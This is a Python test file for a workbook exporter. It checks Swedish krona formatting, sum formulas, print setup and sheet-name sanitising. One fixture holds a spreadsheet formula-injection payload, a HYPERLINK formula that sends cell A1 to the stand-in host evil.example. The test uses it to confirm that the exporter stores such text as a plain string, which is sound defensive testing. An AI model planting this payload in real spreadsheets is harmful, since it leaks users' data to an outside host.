"""exports.workbook: workbooks read back with openpyxl and pandas, cell by cell."""

from __future__ import annotations

import argparse
import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import bench
from bench import workbooks
from bench.__main__ import discover
from bench.workbooks import build_frame, write_plain, write_samordna
from exports import CHUNK_ROWS, sheet_names
from exports.workbook import (
    Column,
    Sheet,
    frame_of,
    header_row_index,
    workbook_bytes,
    write_workbook,
)

META = {"title": "Kostnader & fördelning 2026", "forbund": "Västerbergslagens samordningsförbund"}
META["created"] = date(2026, 3, 5)
HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"Klicka")'
PHONE = "+46 70 123 45 67"
COLUMNS = [
    Column("name", "Organisation"),
    Column("amount", "Belopp", "money"),
    Column("whole", "Hela kronor", "money"),
    Column("share", "Andel", "percent"),
    Column("day", "Beslutsdatum", "date"),
    Column("count", "Antal", "integer"),
]
RECORDS = [
    {"name": "Arbetsförmedlingen", "amount": Decimal("66250.50"), "whole": Decimal("512000"),
     "share": Decimal("30"), "day": date(2016, 1, 14), "count": 3},
    {"name": HOSTILE, "amount": Decimal("999999999999.99"), "whole": Decimal("161000"),
     "share": Decimal("12.5"), "day": None, "count": None},
    {"name": PHONE, "amount": Decimal("0.01"), "whole": None, "share": None,
     "day": datetime(2026, 11, 22, 14, 5), "count": 40},
]  # fmt: skip
AMOUNT_SUM = Decimal("1000000066250.50")


def ore(value: float | int) -> Decimal:
    """A number read back, as kronor to the öre."""
    return Decimal(repr(value)).quantize(Decimal("0.01"))


def build(sheets: list[Sheet], **options) -> bytes:
    return workbook_bytes(sheets, **{**META, **options})


def sheet(**options) -> Sheet:
    return Sheet("Fördelning", frame_of(RECORDS, COLUMNS), COLUMNS, **options)


def load(data: bytes, values: bool = False) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data), data_only=values)


@pytest.fixture(scope="module", params=[False, True], ids=["normal", "constant_memory"])
def book(request: pytest.FixtureRequest) -> bytes:
    return build([sheet(total_row=True)], constant_memory=request.param)


def test_money_reads_back_as_numbers_exact_to_the_ore(book: bytes) -> None:
    ws = load(book).active
    assert [ore(ws.cell(r, 2).value) for r in (2, 3, 4)] == [r["amount"] for r in RECORDS]
    assert ws["C2"].value == 512000 and ws["C4"].value is None
    assert ws["B2"].number_format == '#,##0.00 "kr"'  # the column has öre
    assert ws["C2"].number_format == '#,##0 "kr"'  # whole kronor only
    frame = pd.read_excel(io.BytesIO(book))
    assert [ore(x) for x in frame["Belopp"]] == [*(r["amount"] for r in RECORDS), AMOUNT_SUM]


def test_percent_date_and_integer_cells(book: bytes) -> None:
    ws = load(book).active
    assert (ws["D2"].value, ws["D3"].value, ws["D2"].number_format) == (0.3, 0.125, "0.0 %")
    assert ws["E2"].value == datetime(2016, 1, 14) and ws["E2"].number_format == "yyyy-mm-dd"
    assert ws["E3"].value is None and ws["E4"].value == datetime(2026, 11, 22)
    assert (ws["F2"].value, ws["F2"].number_format) == (3, "#,##0")


def test_hostile_text_is_stored_as_text_never_a_formula(book: bytes) -> None:
    ws = load(book).active
    for cell, text in ((ws["A3"], HOSTILE), (ws["A4"], PHONE)):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert ws["A2"].quotePrefix is False
    xml = zipfile.ZipFile(io.BytesIO(book)).read("xl/worksheets/sheet1.xml").decode()
    assert re.findall(r"<f>(.*?)</f>", xml) == ["SUM(B2:B4)", "SUM(C2:C4)", "SUM(F2:F4)"]


def test_header_frozen_filtered_and_printed(book: bytes) -> None:
    ws = load(book).active
    assert [c.value for c in ws[1]] == [c.title for c in COLUMNS]
    assert ws["A1"].font.b and ws["A1"].border.bottom.style == "thin"
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:F4"
    setup = ws.page_setup
    assert (setup.orientation, setup.paperSize, setup.fitToHeight) == ("landscape", 9, 0)
    assert setup.fitToWidth in (None, 1)  # 1 page wide is the file format's default
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$1:$1"
    assert ws.oddHeader.left.text == "Västerbergslagens samordningsförbund"
    assert ws.oddHeader.center.text == "Kostnader && fördelning 2026"  # & escaped
    assert ws.oddHeader.right.text == "2026-03-05"
    assert ws.oddFooter.center.text == "Sida &P av &N"
    widths = [ws.column_dimensions[x].width for x in "ABCDEF"]
    assert all(8 <= w <= 61 for w in widths), widths
    assert widths[0] >= len(HOSTILE) * 0.9 or widths[0] > 59


def test_document_properties(book: bytes) -> None:
    props = load(book).properties
    assert (props.title, props.creator, props.created) == (
        META["title"], "Samordna", datetime(2026, 3, 5))  # fmt: skip
    app = zipfile.ZipFile(io.BytesIO(book)).read("docProps/app.xml").decode()
    assert "<Company>Västerbergslagens samordningsförbund</Company>" in app


def test_total_row_has_sum_formulas_with_stored_values(book: bytes) -> None:
    ws = load(book).active
    assert [c.value for c in ws[5]] == ["Summa", "=SUM(B2:B4)", "=SUM(C2:C4)", None, None,
                                        "=SUM(F2:F4)"]  # fmt: skip
    assert ws["B5"].font.b and ws["B5"].border.top.style == "thin"
    assert ws["B5"].number_format == '#,##0.00 "kr"'
    cached = load(book, values=True).active
    assert ore(cached["B5"].value) == AMOUNT_SUM
    assert (cached["C5"].value, cached["F5"].value) == (673000, 43)


def test_row_total_column_and_heading() -> None:
    data = build([sheet(heading="Kostnadsfördelning 2026", total_row=True,
                        row_total=Column("sum", "Totalt", "money"))])  # fmt: skip
    ws = load(data).active
    assert ws["A1"].value == "Kostnadsfördelning 2026" and ws["A1"].font.b
    assert ws["G2"].value == "Totalt" and ws.freeze_panes == "A3"
    assert ws.auto_filter.ref == "A2:G5" and ws.print_title_rows == "$2:$2"
    assert [ws.cell(r, 7).value for r in (3, 4, 5, 6)] == [
        "=SUM(B3:C3)", "=SUM(B4:C4)", "=SUM(B5:C5)", "=SUM(G3:G5)"]  # fmt: skip
    cached = load(data, values=True).active
    expected = [Decimal("578250.50"), Decimal("1000000160999.99"), Decimal("0.01")]
    assert [ore(cached.cell(r, 7).value) for r in (3, 4, 5)] == expected
    assert ore(cached["G6"].value) == sum(expected)
    frame = pd.read_excel(io.BytesIO(data), header=header_row_index(sheet(heading="x")))
    assert list(frame.columns) == [*(c.title for c in COLUMNS), "Totalt"]


def test_row_total_of_scattered_money_columns() -> None:
    columns = [Column("a", "A", "money"), Column("n", "N", "integer"), Column("b", "B", "money")]
    frame = frame_of([{"a": Decimal("1.10"), "n": 5, "b": Decimal(2)}], columns)
    data = build([Sheet("S", frame, columns, row_total=Column("t", "Totalt", "money"))])
    assert load(data).active["D2"].value == "=SUM(A2,C2)"
    assert ore(load(data, values=True).active["D2"].value) == Decimal("3.10")


@pytest.mark.parametrize("constant_memory", [False, True])
def test_empty_frame_gives_header_and_zero_totals(constant_memory: bool) -> None:
    empty = Sheet("Tom", frame_of([], COLUMNS), COLUMNS, total_row=True)
    ws = load(build([empty], constant_memory=constant_memory)).active
    assert [c.value for c in ws[1]] == [c.title for c in COLUMNS]
    assert [c.value for c in ws[2]] == ["Summa", 0, 0, None, None, 0]
    assert ws.max_row == 2 and ws.auto_filter.ref == "A1:F1"


def test_sheet_names_are_sanitised_and_unique() -> None:
    names = ["Kostnad: 2026/27 [utkast]?", "a" * 40, "A" * 40, "", "'Citat'", "history", "Blad"]
    cleaned = sheet_names(names)
    assert cleaned[:2] == ["Kostnad 2026-27 utkast", "a" * 31]
    assert cleaned[2] == "A" * 27 + " (2)" and cleaned[3] == "Blad"
    assert cleaned[4:] == ["Citat", "history (2)", "Blad (2)"]
    frame = frame_of(RECORDS, COLUMNS)
    data = build([Sheet(n, frame, COLUMNS) for n in names])
    assert load(data).sheetnames == cleaned


def test_constant_memory_writes_every_cell_across_chunks(tmp_path) -> None:
    frame = build_frame(CHUNK_ROWS + 10)
    written = {}
    for mode in (False, True):
        target = tmp_path / f"{mode}.xlsx"
        sheet = Sheet("Bidrag", frame, [Column("dnr", "Dnr"), Column("paid", "Utbetalt", "money")])
        write_workbook(target, [sheet], constant_memory=mode, **META)
        written[mode] = pd.read_excel(target)
    assert written[True].equals(written[False])
    assert len(written[True]) == CHUNK_ROWS + 10
    assert [ore(x) for x in written[True]["Utbetalt"]] == list(frame["paid"])


def test_benchmark_baseline_writes_the_same_cells(tmp_path) -> None:
    frame = build_frame(300)
    write_samordna(frame, tmp_path / "ours.xlsx")
    write_plain(frame, tmp_path / "plain.xlsx")
    ours, plain = (load((tmp_path / f).read_bytes()).active for f in ("ours.xlsx", "plain.xlsx"))
    assert [[c.value for c in r] for r in ours.rows] == [[c.value for c in r] for r in plain.rows]
    assert [c.number_format for c in ours[2]] == [c.number_format for c in plain[2]]


def test_bench_runner_finds_the_workbook_benchmark_and_reports(tmp_path) -> None:
    assert discover()["workbooks"] is workbooks
    assert "load" not in discover()  # a helper module with another kind of run()
    args = argparse.Namespace(rows=40, repeat=1)
    rows = workbooks.run(args)
    assert [r["rows"] for r in rows] == [20, 80] and all(r["time ratio"] > 0 for r in rows)
    target = tmp_path / "benchmarks.md"
    bench.write_section("workbooks", workbooks.report(rows, args), target)
    bench.write_section("workbooks", workbooks.report(rows, args), target)
    text = target.read_text()
    assert text.count("<!-- bench:workbooks -->") == 1 and "--rows 40 --repeat 1" in text


amounts = st.decimals(min_value=-(10**11), max_value=10**11, places=2)


@settings(max_examples=40, deadline=None)
@given(st.lists(amounts, max_size=25))
def test_stored_total_equals_the_decimal_sum_to_the_ore(values: list[Decimal]) -> None:
    columns = [Column("x", "Belopp", "money")]
    data = build([Sheet("S", frame_of([{"x": v} for v in values], columns), columns,
                        total_row=True)])  # fmt: skip
    ws = load(data, values=True).active
    assert [ore(ws.cell(r + 2, 1).value) for r in range(len(values))] == values
    assert ore(ws.cell(len(values) + 2, 1).value) == sum(values, Decimal(0))


def test_float_money_is_refused() -> None:
    columns = [Column("x", "Belopp", "money")]
    frame = pd.DataFrame({"x": [512000.0]})
    with pytest.raises(TypeError, match="money is Decimal"):
        build([Sheet("S", frame, columns)])


def test_frame_of_keeps_decimals_and_fills_missing_keys() -> None:
    frame = frame_of([{"amount": Decimal("1.50"), "extra": 1}, {}], COLUMNS[:2])
    assert list(frame.columns) == ["name", "amount"] and frame["amount"].dtype == object
    assert frame["amount"].tolist() == [Decimal("1.50"), None]


def test_bad_column_kind_and_missing_frame_column_are_refused() -> None:
    with pytest.raises(ValueError, match="unknown column kind"):
        Column("x", "X", "float")
    with pytest.raises(KeyError, match="nope"):
        build([Sheet("S", frame_of(RECORDS, COLUMNS), [Column("nope", "Nej")])])
    with pytest.raises(ValueError, match="at least one sheet"):
        build([])
